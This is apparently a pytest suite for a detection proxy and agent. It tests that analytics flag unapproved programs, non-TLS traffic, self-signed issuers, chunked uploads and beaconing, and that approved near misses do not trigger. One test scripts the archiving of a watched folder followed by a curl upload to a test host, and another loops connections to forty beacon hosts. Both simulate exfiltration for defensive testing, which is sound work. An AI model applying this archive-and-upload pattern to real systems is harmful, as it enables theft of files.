"""Findings: the analytics of policy/rules/attack with real processes, agent and proxy: what fires, what must not; one finding for many
matches; what people say of them."""
import json
import os
import pathlib
import socket
import subprocess

import pytest

import harness
import origins
from fake_agent import HISTORY, FakeAgent, usage
from harness import BUILD, Proxy, default_baseline, tool, wait_until
from test_history import wait_for_mark

POLICY = pathlib.Path(__file__).resolve().parents[2] / "policy"
AT_ONCE = {"min_days": 0, "min_hosts": 0}
PYTHON = os.path.realpath("/usr/bin/python3")

# connects through the proxy and sends bytes that are no protocol: argv: proxy's port, host:port, how many
RANDOM = """import os, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
s.sendall(f"CONNECT {sys.argv[2]} HTTP/1.1\\r\\nHost: {sys.argv[2]}\\r\\n\\r\\n".encode())
assert b" 200 " in s.recv(4096)
data = bytes([b ^ 0x80 if i < 6 and 0x20 <= b < 0x7f else b for i, b in enumerate(os.urandom(int(sys.argv[3])))])
s.sendall(data)
got = 0
while got < len(data):
    got += len(s.recv(65536))
"""


def make(dns, ports, name="findings", mode="enforce", baseline=None, **config):
    rules = {"policy": {"rules": [str(POLICY / "rules/attack")]}, "history": AT_ONCE}
    return Proxy(name, dns=dns, ports=ports, baseline=baseline or default_baseline(mode=mode), config=harness.merge(rules, config))


def lines(proxy, rule=None):
    """The Detection Findings in the ledger, in order."""
    proxy.ledger.read()
    return [f for f in proxy.ledger.findings if rule is None or f["finding_info"]["analytic"]["category"] == rule]


def finding(proxy, rule, what=lambda f: True):
    return wait_until(lambda: next((f for f in lines(proxy, rule) if what(f)), None), f"a finding of {rule}")


def exeat(proxy, *argv, code=0):
    r = subprocess.run([str(BUILD / "exeat"), *argv], capture_output=True, text=True, timeout=60)
    assert r.returncode == code, r
    return r.stdout


@pytest.fixture(scope="module")
def echo():
    o = origins.Origin(origins.EchoHandler)
    yield o
    o.stop()


def test_an0761_an_unapproved_program_and_a_rare_destination(dns, https, authority, name):
    with make(dns, [https.port], connect={"ports": [443, https.port]}) as p:
        p.run(PYTHON, "-c", f"import urllib.request as u; u.urlopen('https://{name()}/hello')")
        f = finding(p, "AN0761")
        assert f["activity_id"] == 1 and f["status_id"] == 1 and f["disposition"] == "Blocked"
        assert f["finding_info"]["title"].startswith("An application that is not in the baseline")
        assert f["device"]["hostname"] == socket.gethostname()
        assert f["evidences"][0]["actor"]["process"]["file"]["path"] == PYTHON
        assert {a["technique"]["uid"] for a in f["finding_info"]["attacks"]} == {"T1573"}
        assert f["unmapped"]["finding"]["domain"] == "exeat.test"
        record = f["finding_info"]["related_events"][0]["uid"]
        assert wait_until(lambda: p.ledger.find(lambda x: x.uid == record), "its record")
        # near miss: an approved program to the same place
        host = name()
        p.curl("--cacert", authority.ca, f"https://{host}:{https.port}/hello")
        p.exchange(host)
        assert all("curl" not in f["unmapped"]["finding"]["sender"] for f in lines(p))


def test_an0402_random_bytes_that_are_no_tls(dns, echo, https, authority, name, tmp_path):
    script = tmp_path / "random.py"
    script.write_text(RANDOM)
    extra = [{"name": "tester", "match": {"client_network": "127.0.0.1/32"}, "allow": [{"use": "tests"}]}]
    with make(dns, [echo.port, https.port], baseline=default_baseline(extra=extra)) as p:
        host = name()
        r = p.run(PYTHON, script, p.port, f"{host}:{echo.port}", 4096)
        assert r.returncode == 0, r
        f = finding(p, "AN0402")
        assert f["disposition"] == "Alert" and f["unmapped"]["finding"]["confidence"] == "exact"
        # nobody watches the use of ciphers here (--keys): said, not assumed
        assert "history_symmetric_outside_tls" in f["unmapped"]["finding"]["not_observed"].split(","), f
        config, uid = ("--config", str(p.config_path)), f["finding_info"]["uid"]
        wait_until(lambda: uid in exeat(p, "findings", "list", *config), "it in the store")
        shown = exeat(p, "findings", "show", *config, uid)
        assert "history_symmetric_outside_tls" in next(line for line in shown.splitlines() if "not observed" in line)
        # near misses: TLS to the same sort of place, and text
        host = name()
        p.curl("--cacert", authority.ca, f"https://{host}:{https.port}/hello")
        p.exchange(host)
        greeter = origins.Origin(origins.GreetingHandler)
        try:
            with socket.create_connection(("127.0.0.1", p.port)) as s:
                s.sendall(f"CONNECT ok.exeat.test:{echo.port} HTTP/1.1\r\nHost: ok.exeat.test:{echo.port}\r\n\r\n".encode())
                assert b" 200 " in s.recv(4096)
                s.sendall(b"HELO " + b"a" * 1000 + b"\r\n")
                assert s.recv(100)
            p.exchange("ok.exeat.test")
        finally:
            greeter.stop()
        assert len({f["finding_info"]["uid"] for f in lines(p, "AN0402")}) == 1


def test_an1498_an_issuer_that_is_new(dns, https, authority, name):
    self_signed = origins.Origin(origins.HttpHandler, tls=authority.server_context(self_signed=True))
    try:
        with make(dns, [self_signed.port, https.port], policy={"handling": "peek", "chain": "wait",
                                                                "rules": [str(POLICY / "rules/attack")]},
                  tls_origin={"ca_file": str(authority.ca)}) as p:
            host = name()
            p.curl("-k", f"https://{host}:{self_signed.port}/hello")
            f = finding(p, "AN1498")
            assert "chain_self_signed" in f["unmapped"]["finding"]["corroborating"]
            assert f["severity_id"] > 3, "what corroborates makes it worse than its level"
            # near miss: an issuer that the configured root vouches for
            host = name()
            p.curl("--cacert", authority.ca, f"https://{host}:{https.port}/hello")
            x = p.exchange(host)
            assert x.get("unmapped.chain.trusted") is True, x.close
            assert len({f["finding_info"]["uid"] for f in lines(p, "AN1498")}) == 1
    finally:
        self_signed.stop()


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root: the agent watches folders")
def test_an1415_files_an_archive_and_an_upload(dns, https, authority, name, tmp_path):
    watched = tmp_path / "watched"
    watched.mkdir()
    (watched / "plans.txt").write_bytes(os.urandom(600000))
    harness.open_for_others(tmp_path)
    p = make(dns, [https.port])
    p.agent_options = ["--watch", f"plans={watched}/**"]
    with p:
        if any(s.startswith("history:") for s in p.status()["workers"][0]["agent"].get("degraded", [])):
            pytest.skip("no history here")
        host, other = name(), name()
        upload = (f"{tool('curl')} -sS --cacert {authority.ca} -x {p.url} -T {{}} https://{{}}:{https.port}/upload; true")
        script = tmp_path / "gather.sh"
        script.write_text(f"tar czf {tmp_path}/out.tgz -C {watched} .\n" + upload.format(f"{tmp_path}/out.tgz", host) + "\n")
        wait_for_mark(p.agent.pid, watched)
        subprocess.run(["/bin/sh", "-c", f"/bin/sh {script}; true"], start_new_session=True, check=True, timeout=60)
        f = finding(p, "AN1415", lambda f: f["finding_info"]["analytic"]["uid"].endswith("1"))
        assert f["severity_id"] >= 4
        corroborating = f["unmapped"]["finding"]["corroborating"]
        assert "archive_before" in corroborating, corroborating
        # near miss: the same upload without having gathered anything, by a lineage of its own
        before = len(lines(p, "AN1415"))
        plain = tmp_path / "plain.sh"
        (tmp_path / "release.bin").write_bytes(os.urandom(600000))
        plain.write_text(upload.format(f"{tmp_path}/release.bin", other) + "\n")
        subprocess.run(["/bin/sh", "-c", f"/bin/sh {plain}; true"], start_new_session=True, check=True, timeout=60)
        p.exchange(other)
        assert len(lines(p, "AN1415")) == before


def test_many_matches_are_one_finding_and_people_say(dns, https, name, tmp_path):
    p = make(dns, [https.port], findings={"suppressions": "suppressions.yaml"}, connect={"ports": [443, https.port]})
    (p.folder / "suppressions.yaml").write_text("version: 1\nsuppressions:\n")
    with p:
        connect = f"import urllib.request as u\nfor i in range(40):\n    try: u.urlopen('https://b%d.beacon.test:443/' % i)\n    except OSError: pass"
        p.run(PYTHON, "-c", connect)
        f = finding(p, "AN0761", lambda f: f["count"] >= 32)
        assert len({f["finding_info"]["uid"] for f in lines(p)}) == 1
        assert len(lines(p)) <= 8, "created, and an update at each doubling"
        uid = f["finding_info"]["uid"]
        listed = wait_until(lambda: exeat(p, "findings", "list", "--config", str(p.config_path)), "the list")
        assert uid in listed and "beacon.test" in listed
        shown = json.loads(exeat(p, "findings", "show", "--json", "--config", str(p.config_path), uid[:20]))
        assert shown["analytic"] == "AN0761" and len(shown["records"]) == 20
        exeat(p, "findings", "ack", "--by", "alice", "--config", str(p.config_path), uid)
        assert wait_until(lambda: [f for f in lines(p) if f["status_id"] == 2], "the word of it")
        exeat(p, "findings", "suppress", "--owner", "alice", "--ticket", "SEC-1", "--expires", "30d", "--config",
              str(p.config_path), uid)
        p.reload()
        before = len(lines(p))
        p.run(PYTHON, "-c", connect)
        wait_until(lambda: len(p.ledger.find(lambda x: x.close and "beacon" in (x.get("dst_endpoint.hostname") or ""))) == 80,
                   "forty more")
        assert len(lines(p)) == before
        exeat(p, "findings", "close", "--by", "alice", "--config", str(p.config_path), uid)
        last = wait_until(lambda: [f for f in lines(p) if f["activity_id"] == 3], "its end")[0]
        assert last["count"] == 80, "what is suppressed still counts"
        exeat(p, "findings", "close", "--config", str(p.config_path), uid, code=1)
        exeat(p, "findings", "suppress", "--owner", "a", "--ticket", "b", "--expires", "9999d", "--config", str(p.config_path), uid,
              code=1)


# sends 4 KiB in each of argv[4] requests: argv: proxy's port, host, its port
PIECES = """import socket, sys
port, host, to, count = int(sys.argv[1]), sys.argv[2], sys.argv[3], int(sys.argv[4])
for _ in range(count):
    s = socket.create_connection(("127.0.0.1", port))
    s.sendall(f"PUT http://{host}:{to}/upload HTTP/1.1\\r\\nHost: {host}:{to}\\r\\nContent-Length: 4096\\r\\nConnection: close\\r\\n\\r\\n".encode() + b"x" * 4096)
    while s.recv(65536):
        pass
"""


def test_what_fifty_processes_send_in_pieces_is_one_finding(dns, http, name, tmp_path):
    """No connection and no process sends much, and the destination is known: what adds up is found, once."""
    script = tmp_path / "pieces.py"
    script.write_text(PIECES)
    harness.open_for_others(tmp_path)
    with make(dns, [http.port], mode="report") as p:
        host = name()
        many = ["xargs", "-P", "8", "-I", "{}", PYTHON, script, p.port, host, http.port, "6"]
        r = p.run(*many, input=b"".join(b"%d\n" % i for i in range(50)))
        assert r.returncode == 0, r
        f = finding(p, "AN0759", lambda f: f["finding_info"]["analytic"]["uid"].endswith("5"))
        assert f["unmapped"]["finding"]["domain"] == "exeat.test" and "python" in f["unmapped"]["finding"]["sender"]
        wait_until(lambda: len(p.ledger.find(lambda x: x.close and x.get("dst_endpoint.hostname") == host)) == 300, "all of them")
        assert len({f["finding_info"]["uid"] for f in lines(p, "AN0759")}) == 1
        # near miss: as much, in pieces too, by a program that is approved
        (tmp_path / "piece").write_bytes(b"x" * 65536)
        r = p.curl("-o", "/dev/null", "--data-binary", f"@{tmp_path}/piece", f"http://{host}:{http.port}/upload?[1-20]")
        assert r.returncode == 0, r
        wait_until(lambda: len(p.ledger.find(lambda x: x.close and x.get("dst_endpoint.hostname") == host)) == 320, "those of curl")
        assert all("curl" not in f["unmapped"]["finding"]["sender"] for f in lines(p))


@pytest.mark.parametrize("words", [["list", "--owner", "x"], ["list", "5a"], ["show"], ["show", "--all", "5a"], ["ack", "--json", "5a"],
                                   ["suppress", "--by", "x", "5a"], ["selftest", "--all"]], ids=" ".join)
def test_what_a_command_does_not_read_it_refuses(words):
    r = subprocess.run([str(BUILD / "exeat"), "findings", *words], capture_output=True, text=True)
    assert r.returncode == 2 and r.stdout == "" and "--help" in r.stderr, r


def usage_of(x):
    return {key: x.get(f"unmapped.sender.usage.{key}") for key in ("basis", "hosts", "unknown_hosts")}


def recent(executions, connected):
    """The counts of the last 30 days; those since ever would say that it always connects."""
    return {**usage(100000, 90000), "executions": {"count": 100000, "first_ms": 1, "last_ms": 2},
            "recent": {"days": 30, "executions": executions, "connected_executions": connected}}


@pytest.mark.parametrize("program, told, basis, found", [
    ("fifty", [("ws-1", 20, 0), ("ws-2", 20, 0), ("ws-3", 10, 0)], "hosts", True),
    ("fortynine", [("ws-1", 20, 0), ("ws-2", 20, 0), ("ws-3", 9, 0)], "hosts", False),
    ("twohosts", [("ws-1", 200, 0), ("ws-2", 49, 0)], "host", False),
    ("connects", [("ws-1", 1000, 30), ("ws-2", 1000, 1), ("ws-3", 1000, 0)], "hosts", False),
    ("seldom", [("ws-1", 1000, 20), ("ws-2", 1000, 9), ("ws-3", 1000, 0)], "hosts", True),
])
def test_an0759_what_a_program_does_on_three_hosts(dns, https, authority, name, program, told, basis, found):
    """Each host's agent says how often the program ran there; the last connection is judged by all of them, or by its own host's."""
    p = make(dns, [https.port], mode="report")
    p.with_agent = False
    agent = FakeAgent(p.agent_socket)
    agent.sender = {"executable": f"/usr/bin/{program}", "name": program}
    with p:
        p.wait_agent()
        for host, executions, connected in told:
            agent.host = host
            # its own history since ever: of no weight once three hosts told of the days, and else what decides
            own = usage(executions, connected) if basis == "host" else recent(executions, connected)
            agent.history = {**HISTORY, "usage": own}
            to = name()
            p.curl("--cacert", authority.ca, f"https://{to}:{https.port}/hello")
            x = p.exchange(to)
        assert usage_of(x) == {"basis": basis, "hosts": len(told), "unknown_hosts": 0}
        rules = {f["finding_info"]["analytic"]["name"] for f in lines(p, "AN0759") if f["device"]["hostname"] == told[-1][0]}
        assert ("A program that hardly ever connects opens TLS" in rules) == found
    agent.stop()
